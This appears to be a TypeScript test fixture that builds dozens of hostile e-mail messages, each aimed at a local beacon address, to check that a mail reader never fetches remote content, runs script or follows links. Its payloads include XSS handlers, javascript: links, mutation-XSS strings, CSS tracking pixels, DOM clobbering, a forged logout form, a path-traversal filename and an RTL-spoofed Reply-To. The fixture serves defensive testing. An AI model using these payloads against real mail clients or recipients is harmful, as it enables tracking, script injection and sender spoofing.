// Letters that want to learn that they were read, or to do something in the reader's name: each by another way, all to the
// same address, which must never be called.

export type Letter = { subject: string; raw: string };

/** Every way we know that a letter in HTML fetches, runs or leads away by itself. `B` is the beacon's address. */
const BODIES: Record<string, string> = {
  'an image': '<img src="B/img">',
  'images by density': '<img srcset="B/1x 1x, B/2x 2x">',
  'a picture': '<picture><source srcset="B/source"><img src="B/picture"></picture>',
  'an image without quotes': '<img/src=B/slash/onerror=pwned()>',
  'a background in CSS': '<p style="background:url(B/css)">x</p>',
  'a background in CSS, hidden by escapes': '<p style="background:\\75\\72\\6c(B/escaped)">x</p>',
  'a background by image-set': '<p style="background-image:image-set(url(B/set) 1x)">x</p>',
  'a list mark': '<ul style="list-style-image:url(B/mark)"><li>x</ul>',
  'a cursor': '<p style="cursor:url(B/cursor),auto">x</p>',
  'a border': '<p style="border-image:url(B/border) 30">x</p>',
  'a mask': '<p style="mask:url(B/mask);filter:url(B/filter#f)">x</p>',
  'a content': '<p style="content:url(B/content)">x</p>',
  'a custom property': '<p style="--x:url(B/var);background:var(--x)">x</p>',
  'a style sheet inside': '<style>@import "B/import"; body{background:url(B/body)}</style><p>x</p>',
  'a font': '<style>@font-face{font-family:f;src:url(B/font)} p{font-family:f}</style><p>x</p>',
  'a style sheet beside': '<link rel="stylesheet" href="B/sheet"><p>x</p>',
  'a fetch ahead': '<link rel="prefetch" href="B/prefetch"><link rel="preload" as="image" href="B/preload"><link rel="icon" href="B/icon">x',
  'a frame': '<iframe src="B/frame"></iframe>',
  'a frame from a text': '<iframe srcdoc="<img src=B/srcdoc><script>parent.pwned=1</script>"></iframe>',
  'a frame of data': '<iframe src="data:text/html,<img src=B/data>"></iframe>',
  'an object': '<object data="B/object"><embed src="B/embed"></object>',
  'a film': '<video src="B/video" poster="B/poster" autoplay></video><audio src="B/audio" autoplay></audio>',
  'an old sound': '<bgsound src="B/bgsound"><img dynsrc="B/dynsrc" lowsrc="B/lowsrc">',
  'old backgrounds': '<table background="B/table"><tr><td background="B/td">x</td></tr></table>',
  'a body': '<body background="B/old" onload="pwned()"><p>x</p></body>',
  'a button of images': '<form action="B/form"><input type="image" src="B/button"></form>',
  'a drawing': '<svg><image href="B/svg"/><use href="B/use#a"/></svg>',
  'a drawing that runs': '<svg onload="pwned()"><script>pwned()</script><animate onbegin="pwned()" attributeName="x"/></svg>',
  'a formula': '<math><maction actiontype="statusline" href="B/math">x</maction><mi href="javascript:pwned()">y</mi></math>',
  'a script': '<script src="B/script"></script><script>pwned()</script>',
  'a handler': '<img src="x" onerror="pwned()"><p onmouseover="pwned()" style="position:fixed;inset:0">x</p>',
  'a focus': '<input autofocus onfocus="pwned()"><details open ontoggle="pwned()"><summary>x</summary></details>',
  'a way elsewhere': '<meta http-equiv="refresh" content="0;url=B/refresh"><p>x</p>',
  'a base': '<base href="B/"><img src="base"><a href="link">x</a>',
  'a form that looks like ours': '<form action="/compte/deconnexion" method="post"><button>Ouvrir</button></form>',
  'a link that runs': '<a href="javascript:pwned()">x</a><a href=" java\nscript:pwned()">y</a><a href="data:text/html,<script>pwned()</script>">z</a>',
  'a link that tells': '<a href="https://exemple.example" ping="B/ping">x</a>',
  'a text that changes when read twice': '<noscript><p title="</noscript><img src=B/mxss onerror=pwned()>"></noscript>',
  'a style that ends a drawing': '<svg></p><style><a id="</style><img src=B/style onerror=pwned()>"></svg>',
  'a table in a formula': '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=B/mglyph onerror=pwned()&gt;">',
  'a comment for one browser': '<!--[if gte mso 9]><img src="B/mso"><![endif]--><!--><img src=B/comment onerror=pwned()>-->',
  'a template': '<template><img src="B/template" onerror="pwned()"></template><slot onslotchange="pwned()"></slot>',
  'a portal': '<portal src="B/portal"></portal><fencedframe src="B/fenced"></fencedframe><frameset><frame src="B/frameset"></frameset>',
  'a name of the page': '<img name="cookie"><form id="forms"><input name="submit"></form><a id="location" href="B/clobber">x</a>',
};

function html(subject: string, body: string): string {
  return message(subject, 'text/html; charset=utf-8', body);
}

function message(subject: string, type: string, body: string, head = ''): string {
  return (
    `From: Parent <parent@ailleurs.example>\r\nTo: agent\r\nSubject: ${subject}\r\nMIME-Version: 1.0\r\n${head}` +
    `Content-Type: ${type}\r\n\r\n${body.replace(/\r?\n/g, '\r\n')}\r\n`
  );
}

/** What is not in the HTML but beside it. */
function others(beacon: string): Letter[] {
  const parted = (type: string, ...parts: string[]) =>
    [`multipart/${type}; boundary=b`, `${parts.map((part) => `--b\r\n${part}\r\n`).join('')}--b--\r\n`] as const;
  const letter = (subject: string, [type, body]: readonly [string, string], head = ''): Letter => ({
    subject,
    raw: message(subject, type, body, head),
  });
  const text = (body: string) => ['text/plain; charset=utf-8', body] as const;
  return [
    letter('a part that lies elsewhere', [`message/external-body; access-type=URL; URL="${beacon}/external"`, 'Content-Type: image/png\r\n']),
    letter('parts with an address', parted('related',
      'Content-Type: text/html\r\n\r\n<img src="image.png">',
      `Content-Type: image/png\r\nContent-Location: ${beacon}/image.png\r\n\r\nx`), `Content-Base: ${beacon}/\r\n`),
    letter('a file of HTML', parted('mixed', 'Content-Type: text/plain\r\n\r\nx',
      `Content-Type: text/html\r\nContent-Disposition: attachment; filename="../../facture.html"\r\n\r\n<script src="${beacon}/file"></script>`)),
    letter('a drawing as a file', parted('mixed', 'Content-Type: text/plain\r\n\r\nx',
      `Content-Type: image/svg+xml\r\nContent-Disposition: inline; filename=a.svg\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="pwned()"><image href="${beacon}/file.svg"/></svg>`)),
    letter('a card with a photograph', ['text/vcard', `BEGIN:VCARD\r\nVERSION:4.0\r\nFN:X\r\nPHOTO:${beacon}/photo\r\nEND:VCARD`]),
    letter('an appointment with a file', ['text/calendar; method=REQUEST',
      `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:x\r\nDTSTART:20261201T100000Z\r\nATTACH:${beacon}/attach\r\nIMAGE:${beacon}/image\r\nSUMMARY:x\r\nEND:VEVENT\r\nEND:VCALENDAR`]),
    letter('a wish to know', text('x'), `Disposition-Notification-To: parent@ailleurs.example\r\nX-Confirm-Reading-To: parent@ailleurs.example\r\nReturn-Receipt-To: parent@ailleurs.example\r\nList-Unsubscribe: <${beacon}/leave>\r\nFace: x\r\nX-Image-URL: ${beacon}/face\r\n`),
    letter('a letter in plain text', text(`${beacon}/plain <img src="${beacon}/text"> javascript:pwned()`)),
    letter('a type that is none', ['text/html\u0000; x', `<img src="${beacon}/type">`]),
    letter('a sender turned round', text('x'), 'Reply-To: "\u202Emoc.elpmaxe@truc" <parent@ailleurs.example>\r\n'),
  ];
}

/** All of them, calling at this address (`http://127.0.0.1:PORT`). */
export function hostileLetters(beacon: string): Letter[] {
  const bodies = Object.entries(BODIES).map(([subject, body]) => ({ subject, raw: html(subject, body.replaceAll('B/', `${beacon}/`)) }));
  return [...bodies, ...others(beacon)];
}
